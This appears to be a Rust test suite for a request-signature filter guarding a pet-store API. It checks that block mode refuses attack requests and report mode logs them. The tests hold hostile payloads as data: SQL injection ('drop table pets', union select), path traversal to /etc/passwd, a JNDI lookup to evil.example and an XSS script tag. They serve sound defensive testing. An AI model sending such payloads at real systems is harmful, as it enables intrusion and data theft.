//! Shapes of attacks.

use super::{ADD, JSON, ask, chunked, findings, gzip, logged, pets, post};
use crate::{caller::get, upstream::Upstream};

const ATTACK: &[u8] = br#"{"name": "x'; drop table pets;--"}"#;

#[tokio::test]
async fn attacks_are_refused_wherever_they_are() {
    let upstream = Upstream::mirror().await;
    let (world, lines) = pets(
        Some(&upstream.url()),
        serde_json::json!({ "signatures": { "mode": "block" } }),
    );
    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    let fields = format!("{JSON}Content-Encoding: gzip\r\n");
    for request in [
        get(&format!("{ADD}?limit=1+union+all+select+null,null--"), "").into_bytes(),
        get(&format!("{ADD}?limit=..%2f..%2f..%2fetc%2fpasswd"), "").into_bytes(),
        get(ADD, "User-Agent: ${jndi:ldap://evil.example/a}\r\n").into_bytes(),
        post(ADD, JSON, ATTACK),
        post(ADD, form, b"name=%3Cscript%3Ealert(1)%3C/script%3E"),
        chunked(ADD, JSON, &[&ATTACK[..15], &ATTACK[15..]], ""),
        post(ADD, &fields, &gzip(ATTACK)),
    ] {
        let reply = ask(&world, &request).await;
        assert_eq!(
            reply.status,
            403,
            "{} {}",
            String::from_utf8_lossy(&request),
            reply.text()
        );
        reply.problem("suspicious-request");
    }
    assert_eq!(upstream.calls(), 0);
    let fine = post(ADD, JSON, br#"{"name": "O'Neill & Sons, <b>select</b> dogs; drop in"}"#);
    assert_eq!(ask(&world, fine).await.status, 200);
    // A body that is no text is not looked at.
    assert_eq!(
        ask(&world, post(ADD, "Content-Type: image/png\r\n", ATTACK))
            .await
            .status,
        200
    );
    let found = findings(&world);
    assert!(found.contains(&("signatures", "sql_injection", 4)), "{found:?}");
    assert!(found.contains(&("signatures", "jndi_lookup", 1)), "{found:?}");
    let logged = logged(world, lines).await;
    assert_eq!(logged[0]["signatures"], serde_json::json!(["sql_injection"]));
    assert_eq!(logged[0]["reason"], "suspicious-request");
    assert_eq!(logged[7]["signatures"], serde_json::json!([]));
}

#[tokio::test]
async fn a_report_lets_them_through() {
    let upstream = Upstream::mirror().await;
    let policy =
        serde_json::json!({ "signatures": { "groups": ["sql_injection"], "inspect": ["body"], "body_bytes": "1KiB" } });
    let (world, lines) = pets(Some(&upstream.url()), policy);
    let reply = ask(&world, post(ADD, JSON, ATTACK)).await;
    assert_eq!(
        (reply.status, reply.json()["body"].as_str().unwrap().as_bytes()),
        (200, ATTACK)
    );
    // Only the beginning is looked at; all of it goes on.
    let late = [&vec![b' '; 2_000][..], ATTACK].concat();
    let reply = ask(&world, post(ADD, JSON, &late)).await;
    assert_eq!(reply.json()["body"].as_str().unwrap().len(), late.len());
    assert_eq!(
        ask(&world, get(&format!("{ADD}?a=1+union+select+null"), ""))
            .await
            .status,
        200
    );
    assert_eq!(findings(&world), [("signatures", "sql_injection", 1)]);
    let logged = logged(world, lines).await;
    assert_eq!(logged[0]["signatures"], serde_json::json!(["sql_injection"]));
    assert_eq!(logged[1]["signatures"], serde_json::json!([]));
}
